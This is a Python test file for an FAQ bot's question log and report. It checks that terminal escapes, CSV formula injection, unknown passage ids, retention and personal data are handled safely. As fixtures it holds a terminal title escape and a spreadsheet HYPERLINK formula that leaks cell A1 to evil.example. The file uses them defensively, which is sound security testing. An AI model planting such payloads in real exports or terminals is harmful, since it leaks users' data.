"""The question log and report against hostile or personal input: terminal escapes, spreadsheet
formulas, made-up passage ids, rows past retention on a long-running server, e-mail and card numbers."""

import csv
import io
import time

from hypothesis import given, settings, strategies as st

from faqbot.cli import cli
from faqbot.ops.qlog import _CARD, _EMAIL, QuestionLog, mask_personal

DAY = 86400
NOW = 1_717_000_000.0
TITLE_ESCAPE = "\x1b]0;pwned\x07"  # OSC 0: sets the terminal's title
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


class Clock:
    def __init__(self, t):
        self.t = t

    def __call__(self):
        return self.t


def _response(answered, passage_id="refunds#2"):
    result = {"id": passage_id, "score": 7.6, "confidence": 0.96}
    return {"answer": result if answered else None, "results": [result]}


def _log_with(path, questions):
    log = QuestionLog(path, now=Clock(time.time() - 60))
    for question in questions:
        log.record_question(question, _response(False))
    return path


def test_report_output_never_carries_control_characters(tmp_path, runner):
    path = _log_with(tmp_path / "q.sqlite", [TITLE_ESCAPE + "where is my parcel", "bell\x07 and csi\x9b31m red?"])
    for fmt in ("table", "csv", "json"):
        result = runner.invoke(cli, ["report", "--log", str(path), "--since", "all", "--format", fmt])
        assert result.exit_code == 0, result.output
        assert "where is my parcel" in result.output
        for char in ("\x1b", "\x07", "\x9b"):
            assert char not in result.output, (fmt, char)


def test_report_csv_cells_are_never_formulas(tmp_path, runner):
    questions = [FORMULA, "+1 555 0100 call me", "-2 degrees outside?", "@SUM(A1:A9)", "plain words"]
    path = _log_with(tmp_path / "q.sqlite", questions)
    result = runner.invoke(cli, ["report", "--log", str(path), "--since", "all", "--format", "csv"])
    rows = list(csv.reader(io.StringIO(result.output)))
    texts = {row[2] for row in rows[1:] if row[0] == "unanswered"}
    assert "'" + FORMULA in texts and "plain words" in texts
    assert {"'+1 555 0100 call me", "'-2 degrees outside?", "'@SUM(A1:A9)"} <= texts
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    from faqbot.ops.report import render_csv  # questions are stripped when grouped: the tab and CR cases directly

    report = {"most_asked": [{"question": "\t=1+1", "count": 1, "answered": 0}, {"question": "\r@x", "count": 1,
              "answered": 0}], "unanswered": [], "not_helpful": [], "top_articles": [], "per_day": []}
    assert [row[2] for row in csv.reader(io.StringIO(render_csv(report)))][1:] == ["'\t=1+1", "'@x"]


def test_feedback_for_a_passage_not_in_the_index_is_refused(make_app, tmp_path):
    client = make_app().test_client()
    response = client.post("/api/feedback", json={"question": "refund", "passage_id": "made-up#7", "helpful": False})
    assert response.status_code == 404
    assert response.get_json() == {
        "error": "No passage 'made-up#7' in the index: give the id of a result /api/ask returned."}
    ok = client.post("/api/feedback", json={"question": "refund", "passage_id": "refunds#2", "helpful": False})
    assert ok.status_code == 204
    stored = QuestionLog(tmp_path / "questions.sqlite").rows("feedback")
    assert [f["passage_id"] for f in stored] == ["refunds#2"]


def test_every_passage_id_of_the_index_is_known(index_dir):
    from faqbot.index.store import Index

    index = Index.load(index_dir)
    ids = [index.passage(i).id for i in range(index.n_passages)]
    assert ids and all(index.has_passage(pid) for pid in ids)
    assert not any(index.has_passage(pid + "0") or index.has_passage(pid[:-1]) for pid in ids if pid[-1] != "#")


def test_retention_is_enforced_while_the_log_stays_open(tmp_path):
    """A serving process opens the log once: old rows must go without a restart."""
    clock = Clock(NOW)
    log = QuestionLog(tmp_path / "q.sqlite", retention_days=90, now=clock)
    log.record_question("asked on day 0", _response(True))
    log.record_feedback("asked on day 0", "refunds#2", True)
    clock.t = NOW + 91 * DAY
    log.record_question("asked on day 91", _response(True))
    assert [r["question"] for r in log.rows()] == ["asked on day 91"]
    assert log.rows("feedback") == []


def test_retention_is_enforced_by_the_buffered_writer_of_a_server(tmp_path):
    clock = Clock(NOW)
    log = QuestionLog(tmp_path / "q.sqlite", retention_days=1, now=clock)
    log.start_buffering(interval=0.02)
    log.record_question("old question", _response(True))
    log.flush()
    clock.t = NOW + 2 * DAY  # no new question: the writer's hourly check alone must delete it
    deadline = time.monotonic() + 10
    while log.rows() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert log.rows() == []


def test_retention_is_enforced_on_a_server_nobody_asks(tmp_path):
    """A worker starts its writer at start-up (server.py's post_worker_init): no question needed."""
    clock = Clock(NOW)
    QuestionLog(tmp_path / "q.sqlite", now=clock).record_question("old question", _response(True))
    log = QuestionLog(tmp_path / "q.sqlite", retention_days=1, now=clock)  # the server opens the log
    log.start_buffering(interval=0.02)
    log.start_writer()
    clock.t = NOW + 2 * DAY  # nobody asks anything from now on
    deadline = time.monotonic() + 10
    while log.rows() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert log.rows() == []


def test_email_addresses_and_card_numbers_are_masked_before_storing(make_app, tmp_path):
    client = make_app().test_client()
    question = "refund to jane.doe+shop@example.co.uk for card 4111 1111 1111 1111 or 4111-1111-1111-1111?"
    client.post("/api/ask", json={"question": question})
    passage = client.post("/api/ask", json={"question": question}).get_json()["results"][0]["id"]
    assert client.post("/api/feedback", json={"question": question, "passage_id": passage,
                                              "helpful": True}).status_code == 204
    log = QuestionLog(tmp_path / "questions.sqlite")
    masked = "refund to [email] for card [number] or [number]?"
    assert [r["question"] for r in log.rows()] == [masked, masked]
    assert [(f["question"], f["asked_id"]) for f in log.rows("feedback")] == [(masked, 2)]
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("questions.sqlite*"))
    assert b"jane.doe" not in stored and b"4111" not in stored
    # Order numbers, dates and short numbers stay as asked.
    log.record_question("order 12345678 of 2024-05-01, 3 items", _response(True))
    assert log.rows()[-1]["question"] == "order 12345678 of 2024-05-01, 3 items"


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(["@", "a", "b.", "-", " ", "4", "1", "\u0664", "x@y.z", "4111 1111 1111 1111",
                                 "é", "?", "_", "%", "+", "1234567890123"]), max_size=30).map("".join)
       | st.text(max_size=60))
def test_masking_skips_the_patterns_only_where_they_cannot_match(text):
    """mask_personal tries the patterns only on text with an "@" or a digit: the same text as always trying both."""
    assert mask_personal(text) == _CARD.sub("[number]", _EMAIL.sub("[email]", text))
